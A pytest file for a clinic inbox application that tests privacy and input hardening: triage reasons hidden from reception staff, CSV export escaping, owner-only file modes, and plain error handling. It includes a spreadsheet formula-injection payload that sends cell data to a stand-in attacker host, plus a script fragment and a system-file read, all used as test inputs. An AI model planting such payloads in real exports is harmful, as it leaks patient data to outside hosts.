"""The small ones of issue 16 item 9, each tried the way an insider would."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from support.insider import audit_rows, list_json, open_demo, run_cli

from clinic_inbox.core import services
from clinic_inbox.core.store import queries as q

PLAIN = ("Traceback", 'File "', "Error:")


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _plain(done) -> None:
    assert done.returncode in (1, 2), done.stdout
    assert not any(t in done.stderr for t in PLAIN), done.stderr
    assert done.stderr.startswith(("clinic-inbox:", "usage:"))


def _own_thread(home, user="dr.patel", **want) -> dict:
    """A conversation of the physician's own patient (read, replied to and filed by them)."""
    with open_demo(home) as clinic:
        session = services.login(clinic, user, "demo")
        own = {b.row.id for b in services.board(clinic, session) if b.decision.via == "own"}
    rows = list_json(home, user)
    return next(
        r for r in rows if r["thread_id"] in own and all(r[k] == v for k, v in want.items())
    )


def test_header_only_viewers_get_neutral_triage_reasons(shared_demo):
    with open_demo(shared_demo) as clinic:
        doc = services.login(clinic, "dr.patel", "demo")
        revealing = []
        for b in services.board(clinic, doc):
            if b.decision.via != "own" or b.row.category.administrative:
                continue
            for m in services.show_thread(clinic, doc, b.row.id).messages:
                if m.triage_reason and any(
                    w in m.triage_reason.lower() for w in ("sensitive", "suicide", "'")
                ):
                    revealing.append((b.row.id, m.id, m.triage_reason, m.priority))
        assert revealing, "the demo has triage reasons that name the topic"
        assert any(p.value == "urgent" for *_, p in revealing)
    for tid, mid, reason, priority in revealing:
        shown = run_cli(shared_demo, "show", str(tid), "--json", user="reception.singh")
        assert shown.returncode == 0, shown.stderr
        msg = next(m for m in json.loads(shown.stdout)["messages"] if m["id"] == mid)
        assert msg["triage_reason"] != reason and reason not in shown.stdout
        if priority.value == "urgent":
            assert msg["triage_reason"] == "Urgent: clinical red flag"
    # the physician still sees the reason itself
    full = json.loads(run_cli(shared_demo, "show", str(tid), "--json", user="dr.patel").stdout)
    assert any(m["triage_reason"] == reason for m in full["messages"])


def test_audit_csv_cells_cannot_run_as_formulas(demo_home, tmp_path):
    row = _own_thread(demo_home, sensitive=False)
    reason = '=HYPERLINK("http://evil.example/?"&A1,"click me") patient fell'
    glass = run_cli(
        demo_home, "break-glass", str(row["thread_id"]), "--reason", reason, user="nurse.chen"
    )
    assert glass.returncode == 0, glass.stderr
    out = tmp_path / "audit.csv"
    old = os.umask(0o022)  # a desktop's usual umask: a plain open() would give 0644
    try:
        done = run_cli(demo_home, "audit", "export", "--csv", "--out", str(out), user="admin")
    finally:
        os.umask(old)
    assert done.returncode == 0, done.stderr
    assert _mode(out) == 0o600
    cells = [c for r in csv.reader(io.StringIO(out.read_text("utf-8"))) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + reason in cells  # escaped, not lost


def test_files_written_outside_the_store_are_owner_only(demo_home, tmp_path):
    row = _own_thread(demo_home)
    folder = tmp_path / "chart" / "export"
    old = os.umask(0o022)
    try:
        done = run_cli(
            demo_home, "export", str(row["thread_id"]), "--format", "pdf,fhir,hl7v2",
            "--out", str(folder), user="dr.patel",
        )  # fmt: skip
        shot = tmp_path / "shots" / "board.png"
        made = run_cli(
            demo_home, "demo", "--screenshot", str(shot), env={"QT_QPA_PLATFORM": "offscreen"}
        )
    finally:
        os.umask(old)
    assert done.returncode == 0, done.stderr
    files = list(folder.iterdir())
    assert len(files) == 3 and all(_mode(f) == 0o600 for f in files)
    assert _mode(folder) == 0o700 and _mode(folder.parent) == 0o700
    assert made.returncode == 0, made.stderr
    assert shot.read_bytes()[:4] == b"\x89PNG" and _mode(shot) == 0o600
    assert _mode(shot.parent) == 0o700


@pytest.mark.parametrize(
    "args",
    [
        ("show", "99999999999999999999999"),
        ("show", "-4"),
        ("show", "twelve"),
        ("link", "99999999999999999999", "--patient", "1"),
        ("link", "1", "--patient", "99999999999999999999"),
        ("list", "--limit", "99999999999999999999"),
        ("show", "987654"),
        ("link", "1", "--patient", "987654"),
        ("reply", "987654", "--body-file", "/etc/hostname"),
        ("reply", "1", "--body-file", "/no/such/file.txt"),
        ("reply", "1", "--body-file", "/tmp"),
        ("export", "99999999999999999999", "--out", "/tmp/x-export"),
    ],
)
def test_plain_errors_instead_of_tracebacks(shared_demo, args):
    _plain(run_cli(shared_demo, *args, user="dr.patel"))


def test_reply_size_and_nul_bytes_are_refused(demo_home, tmp_path):
    row = _own_thread(demo_home)
    before = len(audit_rows(demo_home, "reply.queue"))
    huge = tmp_path / "huge.txt"
    huge.write_text("Take one tablet a day. " * 5000, "utf-8")  # 115,000 characters
    done = run_cli(
        demo_home, "reply", str(row["thread_id"]), "--body-file", str(huge), user="dr.patel"
    )
    _plain(done)
    assert "the limit is 100,000" in done.stderr
    nul = tmp_path / "nul.txt"
    nul.write_text("Your results are fine.\x00<script>", "utf-8")
    done = run_cli(
        demo_home, "reply", str(row["thread_id"]), "--body-file", str(nul), user="dr.patel"
    )
    _plain(done)
    assert "NUL" in done.stderr
    assert len(audit_rows(demo_home, "reply.queue")) == before
    with open_demo(demo_home) as clinic:
        doc = services.login(clinic, "dr.patel", "demo")
        with pytest.raises(ValueError, match="NUL"):
            services.add_note(clinic, doc, row["thread_id"], "checked\x00")
        with pytest.raises(ValueError, match="limit"):
            services.add_note(clinic, doc, row["thread_id"], "x" * 100_001)
        assert not q.thread_notes(clinic.store, row["thread_id"])
    ok = tmp_path / "ok.txt"
    ok.write_text("Your results are fine.", "utf-8")
    done = run_cli(
        demo_home, "reply", str(row["thread_id"]), "--body-file", str(ok), user="dr.patel"
    )
    assert done.returncode == 0, done.stderr
